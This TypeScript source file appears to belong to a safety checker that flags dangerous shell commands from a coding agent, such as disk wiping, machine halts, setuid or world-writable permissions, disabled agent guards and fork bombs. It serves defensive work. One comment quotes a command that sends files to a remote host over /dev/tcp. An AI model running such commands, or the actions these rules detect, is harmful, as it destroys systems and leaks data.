import { isHere } from '../../../programs/parts/address';
import type { EffectOf } from '../../../programs/effect';
import { effectsOf, isDisk } from '../../../shell/effects';
import type { Invocation } from '../../../shell/invocation';
import { foundIn, plainWord } from '../../../shell/reader/words';
import { shellNames } from '../../../programs/shells';
import { programName, resolvePath, resolveWord, within } from '../../../shell/paths';
import { isSystem, reachOf } from './targets';
import { effectRule, lineRule, objection, type EffectRule, type Objection, type View } from './rule';

const diskWay = 'Work on an image file inside the project, or ask the person to do this to the device.';

/** Memory that is set up as a disk holds nothing that was there before. */
const isMemory = (text: string): boolean => /^\/dev\/z?ram\d|ram:\/\//.test(text);

type Machine = EffectOf<'machine'>;

/** A disk or volume that the command names. One in a variable is left to `strict`. */
function destroying({ on }: Machine, invocation: Invocation, view: View): Objection | undefined {
  if (on !== undefined && (isMemory(on.text) || (on.value === undefined && !view.strict))) return undefined;
  return objection(invocation, 'It destroys everything on a disk or volume.', diskWay);
}

function writingDevice({ path, cwd }: EffectOf<'write'>, invocation: Invocation): Objection | undefined {
  if (invocation.elsewhere && invocation.inNewContainer) return undefined;
  const place = resolveWord(cwd, path) ?? path.text;
  if (isDisk(place)) return objection(invocation, 'It overwrites a disk.', diskWay);
  return place === '/proc/sysrq-trigger'
    ? objection(invocation, 'It makes the kernel halt or crash the machine.', haltWay)
    : undefined;
}

const haltWay = 'Stop the one process you mean (`kill <pid>`), or ask the person to restart the machine.';

const opensSystem =
  'It changes the rights of a system directory or a whole home: the machine may no longer work, and it cannot be undone.';
const permissionWay = 'Change the mode or owner of named files inside the project (`chmod 755 ./script.sh`).';

/** Modes that make a file writable for all. */
const open = /^0*[0-7]?777$|^(?:a|ugo)?[+=]r?w?x?$/;

/** Modes that let everybody write. */
const writable = /^0*[0-7]{0,3}[2367]$|(?:^|,)[ug]*[ao][ugoa]*[+=][rxXst]*w/;
/** Folders in which only the system should write; devices and sockets are often open to everybody. */
const configured = /^\/(?:etc|boot|s?bin|lib\w*|usr)\//;

/** Modes that let everybody run a program with the rights of its owner (setuid, setgid). */
const lendsRights = /^0*[4-7][0-7]{3}$|(?:^|,)(?:[go]*[ua][ugoa]*)?[+=][rwxXt]*s/;

/** Programs that run any command. */
const runsAnything = /^(?:(?:python|perl|ruby|php|lua|node)[\d.]*|vim?|env|find|[gmn]?awk|busybox|tclsh|expect)$/;

function lendingRights({ path, mode = '' }: EffectOf<'attributes'>, invocation: Invocation): Objection | undefined {
  if (invocation.elsewhere || !lendsRights.test(mode)) return undefined;
  return objection(
    invocation,
    `It lets every user run ${path.raw} with the rights of its owner.`,
    'Run the one command that needs the rights with `sudo`, or ask the person.',
  );
}

function changingPermissions(
  effect: EffectOf<'attributes'>,
  invocation: Invocation,
  view: View,
): Objection | undefined {
  const { path, recursive, sets, mode = '' } = effect;
  // A script of that name in a temporary directory is another program.
  if (view.temporary.some((directory) => invocation.name.text.startsWith(`${directory}/`))) return undefined;
  if (invocation.elsewhere)
    return recursive && path.value === '/' && !invocation.inNewContainer
      ? objection(invocation, opensSystem, permissionWay)
      : undefined;
  const name = programName(path.text);
  if (shellNames.has(name) || runsAnything.test(name)) {
    const lent = lendingRights(effect, invocation);
    if (lent !== undefined) return lent;
  }
  const opens = open.test(mode) && /7|w/.test(mode);
  const lets = opens || (writable.test(mode) && configured.test(path.text));
  if (foundIn(path) !== undefined && reachOf(path, effect, view) === 'system')
    return objection(
      invocation,
      'It changes the permissions of everything that find reaches in a system directory or a whole home.',
      permissionWay,
    );
  const place =
    path.value === undefined ? undefined : resolvePath(effect.cwd, path.value.replace(/\/?\*+$/, '') || '/');
  // What is there was installed by the person, who may own it: package managers ask for that.
  if (sets === 'owner' && place !== undefined && within(place, '/usr/local')) return undefined;
  if (place !== undefined && isSystem(place, view.home) && !view.roots.includes(place) && (recursive || lets)) {
    return objection(invocation, opensSystem, permissionWay);
  }
  return view.strict && opens ? objection(invocation, 'It lets every user write.', permissionWay) : undefined;
}

/** A rule about one thing that can be done to the machine. */
function machineRule(id: string, what: readonly Machine['what'][], check: EffectRule<'machine'>['check']): EffectRule {
  return effectRule(id, 'machine', (effect, invocation, view) =>
    what.includes(effect.what) ? check(effect, invocation, view) : undefined,
  );
}

export const machineRules: readonly EffectRule[] = [
  machineRule('format-disk', ['destroy-disk'], destroying),
  machineRule('destroy-volume', ['destroy-volume'], destroying),
  machineRule('halt-machine', ['halt'], ({ why }, invocation) =>
    objection(invocation, `It ${why ?? 'stops or restarts the machine'}.`, haltWay),
  ),
  machineRule('drop-schedule', ['drop-schedule'], (_effect, invocation) =>
    objection(
      invocation,
      'It removes the whole crontab, without a copy.',
      'Print the table with `crontab -l`, and let the person remove the right lines.',
    ),
  ),
  machineRule('delete-settings', ['drop-settings'], ({ why }, invocation) =>
    objection(
      invocation,
      `It ${why ?? 'deletes settings of the machine'}; there is no copy.`,
      'Export the key with `reg export` first, and let the person delete it.',
    ),
  ),
  machineRule('unguarded-agent', ['unguarded-agent'], (_effect, invocation) =>
    objection(
      invocation,
      'It starts a coding agent with its permission checks or its hooks off.',
      'Start it with both on, or ask the person to start it.',
    ),
  ),
  machineRule('remove-essential-package', ['essential-packages'], (_effect, invocation) =>
    invocation.elsewhere
      ? undefined
      : objection(
          invocation,
          'It removes a package that the system needs to boot or to be repaired.',
          'Remove only the package you mean, or ask the person to do it.',
        ),
  ),
  effectRule('overwrite-device', 'write', writingDevice),
  effectRule('open-permissions', 'attributes', changingPermissions),
];

const accountWay = 'Tell the person what is needed, and why.';

/** Rules that ask the person. */
export const machineQuestions: readonly EffectRule[] = [
  machineRule('change-accounts', ['users'], ({ why }, invocation) =>
    invocation.elsewhere ? undefined : objection(invocation, `It ${why ?? 'changes accounts'}.`, accountWay),
  ),
  effectRule('change-accounts', 'attributes', lendingRights),
  machineRule('loosen-protection', ['protection'], ({ why }, invocation) =>
    invocation.elsewhere
      ? undefined
      : objection(
          invocation,
          `It ${why ?? 'switches off what guards the machine'}.`,
          'Open the one port or path that is needed, or tell the person why.',
        ),
  ),
  machineRule('run-later', ['schedule'], ({ why }, invocation) =>
    invocation.elsewhere ? undefined : objection(invocation, `It ${why ?? 'runs later'}.`, accountWay),
  ),
];

/** `tar c . > /dev/tcp/host/9000`: the shell itself connects. A line that only tries the port sends nothing. */
export const socketQuestion = lineRule('write-socket', (reading) => {
  const used = reading.invocations.some(
    ({ redirects, args }) =>
      redirects.some(({ operator, target }) => operator === '>&' && !/^[12]?-?$/.test(target?.text ?? '')) ||
      args.some(({ text }) => /\/fd\/|\bFD:/.test(text)),
  );
  for (const { effect, invocation } of effectsOf(reading)) {
    if (effect.kind !== 'write') continue;
    const host = /^\/dev\/(?:tcp|udp)\/([^/]+)/.exec(effect.path.text)?.[1];
    if (host === undefined || isHere(plainWord(host))) continue;
    const { program } = invocation;
    const opens = program === 'exec' || program === '' || program === ':' || program === 'true';
    const probes = effect.content?.kind === 'text' && effect.content.text.trim() === '';
    if (opens ? used : !probes)
      return objection(
        invocation,
        `It connects to ${host} and writes to it.`,
        'Use a program whose request can be read, such as `curl`.',
      );
  }
  return undefined;
});

export const repetitionRule = lineRule('fork-bomb', (reading) => {
  for (const found of reading.repetitions) {
    const bomb = found.kind === 'recursion' ? found.unconditional : found.spawns && !found.waits && !found.leaves;
    if (!bomb) continue;
    const part =
      found.kind === 'recursion'
        ? `${found.functions.join(' → ')} → ${found.functions[0] ?? ''}`
        : 'an endless loop that starts background jobs';
    return objection(
      part,
      'It starts processes endlessly until the machine stops responding.',
      'Make the loop end, and `wait` for what it starts.',
    );
  }
  return undefined;
});
